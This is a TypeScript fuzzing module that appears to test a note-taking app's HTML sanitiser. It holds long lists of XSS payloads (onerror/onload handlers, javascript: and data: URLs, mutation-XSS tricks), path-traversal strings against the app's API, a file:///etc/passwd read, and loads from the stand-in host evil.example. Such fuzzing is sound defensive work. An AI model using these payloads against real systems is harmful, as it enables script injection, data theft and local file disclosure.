// What an attacker would want to stand in a note. `fuzz(№)` is the call that must never happen, `evil.example/№` the address that must
// never be asked; № is the number of the composition.
import { DIAGRAMS, FORMULAS, LANGUAGES, SOURCES, type Texts } from './drawn.ts';
import type { Choices } from './random.ts';

const MARKUP: Texts = [
  '<img src=f№ onerror=fuzz(№)>',
  '<img src=//evil.example/№>',
  '<img/src=//evil.example/№/onerror=fuzz(№)>',
  '<svg onload=fuzz(№)>',
  '<svg><image href=//evil.example/№ /></svg>',
  '<svg><use href="//evil.example/№#a"/></svg>',
  '<svg><script>fuzz(№)</script></svg>',
  '<iframe srcdoc="<script>parent.fuzz(№)</script>"></iframe>',
  '<iframe src="javascript:parent.fuzz(№)"></iframe>',
  '<iframe src="//evil.example/№"></iframe>',
  '<script>fuzz(№)</script>',
  '<script src=//evil.example/№></script>',
  '<style>@import "//evil.example/№";</style>',
  '<link rel=stylesheet href=//evil.example/№>',
  '<details open ontoggle=fuzz(№)><summary>x</summary></details>',
  '<video src=//evil.example/№ onerror=fuzz(№)></video>',
  '<audio src=//evil.example/№></audio>',
  '<object data=//evil.example/№></object>',
  '<embed src=//evil.example/№>',
  '<input autofocus onfocus=fuzz(№)>',
  '<a href="javascript:fuzz(№)">x</a>',
  '<form action="javascript:fuzz(№)"><button>x</button></form>',
  '<math><mtext><a href="javascript:fuzz(№)">x</a></mtext></math>',
  '<base href="//evil.example/№/">',
  '<meta http-equiv=refresh content="0;url=//evil.example/№">',
  '<p style="background:url(//evil.example/№)">x</p>',
  '<span style="animation:x" onanimationstart=fuzz(№)>x</span>',
  '<table background=//evil.example/№><td>x</table>',
  '<picture><source srcset=//evil.example/№><img></picture>',
  '<noscript><p title="</noscript><img src=f№ onerror=fuzz(№)>">',
  '<math><mglyph><style><!--</style><img src=f№ onerror=fuzz(№)>--></style>',
  '<protyle-html data-content="<img src=f№ onerror=fuzz(№)>"></protyle-html>',
  '<!--><img src=f№ onerror=fuzz(№)>-->',
  '<?x ><img src=f№ onerror=fuzz(№)>?>',
  '<wbr><img src=f№ onerror=fuzz(№)>',
  '"><img src=f№ onerror=fuzz(№)>',
  "'><img src=f№ onerror=fuzz(№)>",
  '</div></div><img src=f№ onerror=fuzz(№)>',
  '</span><img src=f№ onerror=fuzz(№)>',
  '</textarea></title></style><img src=f№ onerror=fuzz(№)>',
  '" onmouseover=fuzz(№) x="',
  '" onerror="fuzz(№)',
  '" style="background:url(//evil.example/№)',
  '<img src=f№ onerror',
  '=fuzz(№)>',
  '<i',
  'mg src=//evil.example/№>',
  '<',
  '>',
  '&lt',
  '&',
  '<span data-type="strong"><img src=f№ onerror=fuzz(№)></span>',
  '<span data-type="a" data-href="javascript:fuzz(№)">x</span>',
  '<span data-type="inline-math" data-subtype="math" data-content="\\href{javascript:fuzz(№)}{x}" class="render-node"></span>',
  '<span data-type="inline-memo" data-inline-memo-content="<img src=//evil.example/№>">x</span>',
  '<div data-type="NodeHTMLBlock" class="render-node"><protyle-html data-content="<script>fuzz(№)</script>"></protyle-html></div>',
  '<u onclick=fuzz(№)>x</u>',
  '<kbd style="background:url(//evil.example/№)">x</kbd>',
  '<b onpointerenter=fuzz(№)>x</b>',
];

const ADDRESSES: Texts = [
  'javascript:fuzz(№)',
  'JaVaScRiPt:fuzz(№)',
  'java\tscript:fuzz(№)',
  ' javascript:fuzz(№)',
  'javascript&colon;fuzz(№)',
  'javascript://a.example/%0afuzz(№)',
  'vbscript:fuzz(№)',
  'data:text/html,<script>fuzz(№)</script>',
  'data:image/svg+xml,<svg onload=fuzz(№)>',
  'blob:http://siyuan.invalid/x',
  'file:///etc/passwd',
  'http://evil.example/№',
  'https://evil.example/№.png',
  '//evil.example/№',
  '\\\\evil.example\\№',
  '/\\evil.example/№',
  '/api/network/proxy?u=http://evil.example/№',
  'assets/../api/network/proxy?u=№',
  'assets/%2e%2e/api/system/exit',
  'assets/.%2e/api/system/exit',
  'assets/.\t./api/system/exit',
  'assets/./../api/system/exit',
  'assets\\..\\api\\system\\exit',
  'assets/..%2fapi',
  'assets/x.png',
  'assets/x.png?a=1',
  'assets/x.png#<img src=f№ onerror=fuzz(№)>',
  'assets/%3Cimg%20src=%22//evil.example/№%22%3E.png',
  'assets/%253Cimg%2520src=f№%2520onerror=fuzz(№)%253E.png',
  'emojis/../api/x',
  '/emojis/../api/x',
  'emojis/x.png',
  'siyuan://plugins/x',
  'siyuan://blocks/20200101000000-aaaaaaa',
  'siyuan://blocks/../plugins/x',
  'https://a.example/%3Cimg%20src=%22//evil.example/№%22%3E',
  'https://a.example/"><img src=//evil.example/№>',
  'mailto:a@b.c',
  'relative/path.md',
  'x:y',
  '#here',
  '?a',
];

/** A word that does no harm, and words that live next to syntax. */
const WORDS: Texts = [
  'text',
  'two words',
  '思源',
  '1 < 2 & 3 > 2',
  'a.example',
  'T&D',
  '$5 and $6',
  '100%',
  '\\',
  '"quoted"',
  "it's",
  ':smile:',
  '((x))',
  '{{x}}',
  '|',
  '[^1]',
  '🏳️‍🌈',
];

/** Parts that mean nothing alone: put together at random they come close to what a guard looks for, from the side where it lets through. */
const PARTS: Texts = [
  '<',
  ...['</', '>', '/>', '<!', '<?', '< ', 'i', 'mg', 'img ', 'svg', 'a ', 'b>', 'src', 'href', 'on', 'load', 'error', '=', '"', "'"],
  ...['fuzz(№)', 'javascript', ':', '//', 'evil.example/№', 'url(', ')', '(', 'data:', 'style', 'x', 'text', ' ', ' ', '\u00a0', '思'],
  ...[
    '&',
    '&lt',
    '&lt;',
    '&#60',
    '&#x3c;',
    '&amp;',
    ';',
    '#',
    '#lt;',
    '#35;',
    '60',
    '%3C',
    '%',
    '%%',
    '\\',
    '\\n',
    '\\href',
    '\\html',
    '{',
    '}',
    '\\{',
  ],
  ...[
    '$',
    '$$',
    '^',
    '_',
    '~',
    '*',
    '**',
    '`',
    '@',
    '@{',
    '[',
    ']',
    '|',
    '==',
    '--',
    '-->',
    '---',
    'click',
    'call',
    'link',
    'img:',
    'init:',
  ],
  ...[
    '\u200b',
    '‸',
    '<wbr>',
    '\t',
    '_esc_newline_',
    '{{',
    '}}',
    '((',
    '))',
    '{:',
    '//!js',
    'assets/',
    '..',
    '.',
    '?',
    '\u2028',
    'Ｌ',
    '＜',
  ],
];

const fill = (text: string, number: number): string => text.replaceAll('№', String(number));

/** One text of each kind, with the composition's number in it. `T` and `U` in diagrams and sources stand for a text and an address. */
export class Payloads {
  private readonly choices: Choices;
  private readonly number: number;

  constructor(choices: Choices, number: number) {
    this.choices = choices;
    this.number = number;
  }

  private from(list: Texts): string {
    return fill(this.choices.pick(list), this.number);
  }

  readonly markup = (): string => this.from(MARKUP);
  readonly address = (): string => this.from(ADDRESSES);
  readonly word = (): string => this.from(WORDS);
  readonly language = (): string => this.slots(this.choices.pick(LANGUAGES));

  formula(): string {
    const one = this.from(FORMULAS);
    return this.choices.pick([one, one, `${one} ${this.from(FORMULAS)}`, `${one}${this.odd()}`, `\\text{${this.odd()}}`]);
  }

  diagram(): string {
    return this.slots(this.choices.pick(DIAGRAMS), this.choices.chance(0.7) ? () => this.tame() : undefined);
  }

  /** A label that is likely to be let through: what lies at the border is worth more here than what is refused at once. */
  private tame(): string {
    return this.choices.chance(0.5) ? this.word() : this.odd().slice(0, 1 + this.choices.below(12));
  }

  source(): string {
    return this.slots(this.choices.pick(SOURCES));
  }

  /** A few parts behind each other. */
  odd(): string {
    const count = 1 + this.choices.below(7);
    return Array.from({ length: count }, () => this.from(PARTS)).join('');
  }

  /** What an attacker puts where a text is expected. */
  text(): string {
    const kind = this.choices.below(14);
    if (kind < 5) return this.markup();
    if (kind < 9) return this.odd();
    if (kind < 12) return this.word();
    return kind === 12 ? this.address() : this.from(FORMULAS);
  }

  private slots(template: string, label = () => this.text()): string {
    return fill(
      template.replace(/\b[TU]\b/g, (slot) => (slot === 'T' ? label() : this.address())),
      this.number,
    );
  }
}
